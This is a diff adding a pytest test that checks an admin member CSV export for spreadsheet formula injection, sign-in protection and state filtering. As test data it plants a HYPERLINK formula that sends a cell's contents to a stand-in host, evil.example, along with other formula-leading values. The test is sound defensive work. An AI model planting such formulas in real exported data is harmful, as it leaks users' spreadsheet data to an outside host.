@@ -118,3 +118,34 @@ def test_search_and_filters(make_node):
     assert set(names("state=active&visibility=public")) == public_active
     html = client.get("/admin/?state=invited").get_data(as_text=True)
     assert 'id="admin-nav"' in html and "invited, not accepted" in html
+
+
+def test_csv_export_is_formula_safe_and_filtered(make_node):
+    import csv
+    import io
+
+    app = make_node()
+    populate(app, 30)
+    state = app.extensions["coopfed"]
+    with state.session() as s:
+        evil = s.query(Member).filter(Member.username == "m0001").one()
+        evil.name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+        evil.city = "-2+3"
+        s.query(Member).filter(Member.username == "m0002").one().name = "@SUM(A1:A9)"
+        s.commit()
+    client = signed_in_admin(app)
+    response = client.get("/admin/members.csv")
+    assert response.status_code == 200 and response.mimetype == "text/csv"
+    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
+    assert rows[0][:3] == ["username", "name", "email"] and len(rows) == 32
+    by_name = {r[0]: r for r in rows[1:]}
+    assert by_name["m0001"][1] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert by_name["m0001"][7] == "'-2+3"
+    assert by_name["m0002"][1] == "'@SUM(A1:A9)"
+    assert by_name["m0003"][1] == "Person Nummer 3"  # ordinary text untouched
+    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
+    invited = client.get("/admin/members.csv?state=invited").get_data(as_text=True)
+    assert len(invited.strip().splitlines()) - 1 == len(
+        [i for i in range(30) if i % 4 == 1 and i % 5]
+    )
+    assert app.test_client().get("/admin/members.csv").status_code == 302  # signed out
